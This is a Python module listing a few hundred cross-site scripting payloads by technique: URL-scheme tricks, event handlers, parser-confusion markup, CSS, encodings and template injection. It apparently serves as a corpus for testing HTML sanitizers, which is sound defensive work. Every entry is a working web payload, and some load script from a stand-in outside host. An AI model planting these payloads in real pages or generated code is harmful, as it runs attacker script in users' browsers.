"""Markup by which somebody would run a script in a reader's browser, one class of attack a line.

Each asks for `alert(1)`, on its own or when an element is clicked, focused or passed over. Written by us from the
HTML, SVG, MathML, CSS and URL standards; the classes are those of the usual catalogues.
"""

SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "java\rscript:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "javascript&#x0003A;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "&#1;javascript:alert(1)",
    "&#x1f;javascript:alert(1)", "&nbsp;javascript:alert(1)", "\u00a0javascript:alert(1)", "\u2028javascript:alert(1)",
    "\u200bjavascript:alert(1)", "javascript:%61lert(1)", "javascript://%0aalert(1)", "javascript://a.example/%0aalert(1)",
    "javascript:80/alert(1)", "javascript:123;alert(1)", "javascript:/**/alert(1)", "javascript:void(0),alert(1)",
    "javascript:`ł`80,alert(1)", "vbscript:alert(1)", "livescript:alert(1)", "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:text/javascript,alert(1)", "blob:https://a.example/1", "filesystem:https://a.example/1", "//a.example/x",
    "/\\a.example/x", "\\\\a.example\\x", "https:a.example", "jar:https://a.example!/",
]  # fmt: skip

MARKUP = [
    # scripts
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script src=data:text/javascript,alert(1)></script>",
    "<script src=//a.example/x.js></script>", "<script type=module>alert(1)</script>", "<script>alert(1)",
    "<<script>alert(1)//<</script>", "<script nonce=x>alert(1)</script>", "<script><!--\nalert(1)\n--></script>",
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />", "<svg><script>alert&lpar;1)</script>",
    "<script type=importmap>{\"imports\":{\"x\":\"data:text/javascript,alert(1)\"}}</script>",
    # handlers that run by themselves
    "<img src=x onerror=alert(1)>", "<img src=x onerror=\"alert(1)\">", "<img/src=x/onerror=alert(1)>",
    "<image src=x onerror=alert(1)>", "<img src=x:x onerror=&#97;lert(1)>", "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<iframe onload=alert(1)>",
    "<video src=x onerror=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<object data=x onerror=alert(1)>", "<embed src=/static/x onload=alert(1)>", "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<a href=# autofocus tabindex=0 onfocus=alert(1)>x</a>", "<marquee onstart=alert(1)>x</marquee>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1) attributeName=x to=1>",
    "<svg><image href=x onerror=alert(1)>", "<p onanimationstart=alert(1) style=animation-name:x>x</p>",
    "<div oncontentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto>x</div>",
    "<xss onscrollsnapchange=alert(1) id=x tabindex=1>x</xss>", "<input type=image src=x onerror=alert(1)>",
    # handlers that wait
    "<p onclick=alert(1)>x</p>", "<b onmouseover=alert(1)>x</b>", "<b/onpointerenter=alert(1)>x</b>",
    "<a href=https://a.example onclick=alert(1)>x</a>", "<a href='https://a.example'onclick='alert(1)'>x</a>",
    "<button popovertarget=x onclick=alert(1)>x</button>", "<p tabindex=0 onfocus=alert(1)>x</p>",
    "<button type=submit formaction=javascript:alert(1) form=x>x</button><form id=x></form>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<math><maction onclick=alert(1)>x</maction></math>",
    "<area shape=default href=javascript:alert(1)>", "<svg><a href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<math href=javascript:alert(1)><mi>x</mi></math>", "<math><a xlink:href=javascript:alert(1)><mi>x</mi></a></math>",
    # frames and documents
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'>", "<iframe src='data:text/html,<script>alert(1)</script>'>",
    "<frameset><frame src=javascript:alert(1)>", "<object data=javascript:alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'>", "<embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>alert(1)</script>",
    "<base href='javascript:alert(1)//'><a href=#>x</a>", "<base href=//a.example/><script src=x.js></script>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>", "<portal src=javascript:alert(1)></portal>",
    "<fencedframe src=javascript:alert(1)></fencedframe>", "<applet code=javascript:alert(1)></applet>",
    # text that is read again as something else
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>", "<style><p title='</style><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>", "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->", "<!--a--!><img src=x onerror=alert(1)>-->",
    "<!-- --\n><img src=x onerror=alert(1)>-->", "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml ><img src=x onerror=alert(1)>?>",
    "<!doctype x><img src=x onerror=alert(1)>", "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>", "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mi//xlink:href='data:x,<img src=x onerror=alert(1)>'>", "<template><img src=x onerror=alert(1)></template>",
    "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "<table><td background=javascript:alert(1)>x</td></table>", "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><svg><style></table><img src=x onerror=alert(1)>", "<option><style></option></select><img src=x onerror=alert(1)></style>",
    # styles
    "<style>@import 'javascript:alert(1)';</style>", "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>", "<style>@keyframes x{}</style><p style=animation-name:x onanimationend=alert(1)>x</p>",
    "<p style='position:fixed;inset:0;z-index:9'>cover</p>", "<link rel=stylesheet href=data:text/css,*{color:red}>",
    # attributes
    "<img src='x\" onerror=\"alert(1)'>", "<img src=`x`onerror=alert(1)>", "<img \x0asrc=x\x0aonerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>", "<img src=x ONERROR=alert(1)>", "<img src=x =onerror=alert(1)>", "<img '\"src=x onerror=alert(1)>",
    "<a href=\"https://a.example/\"\"onmouseover=alert(1)\">x</a>", "<a href='x' id=location name=defaultView>x</a>",
    "<form id=document><input name=cookie></form>", "<img name=getElementById><a id=attributes href=#>x</a>",
    "<p data-x='<img src=x onerror=alert(1)>'>x</p>", "<p is=x-y contenteditable onbeforeinput=alert(1)>x</p>",
    # entities, widths, directions
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;", "&LT;img src=x onerror=alert(1)&GT;", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<img src=x onerror=alert(1)>\u202c", "\u2066<script>alert(1)</script>\u2069", "<img src=x onerror=alert(1)>\u200e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cimg src=x onerror=alert(1)\\u003e",
    # templates and our own marks
    "{{ 7|safe }}<img src=x onerror=alert(1)>", "{% load x %}<script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}", "<%= alert(1) %>", "#{alert(1)}", "<!--pk--><img src=x onerror=alert(1)>", "</p></article></li></ol><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "]]></description><script>alert(1)</script>", "</title></head><body><script>alert(1)</script>",
    # deep
    "<b>" * 300 + "<img src=x onerror=alert(1)>", "<div>" * 520 + "<svg onload=alert(1)>" + "</div>" * 520,
    "<a>" * 60 + "<table>" * 60 + "<a href=javascript:alert(1)>x", "<p><button>" * 40 + "<p><img src=x onerror=alert(1)>",
]  # fmt: skip

LINKS = [f'<a href="{scheme}">x</a>' for scheme in SCHEMES]
PAYLOADS = [*LINKS, *MARKUP]
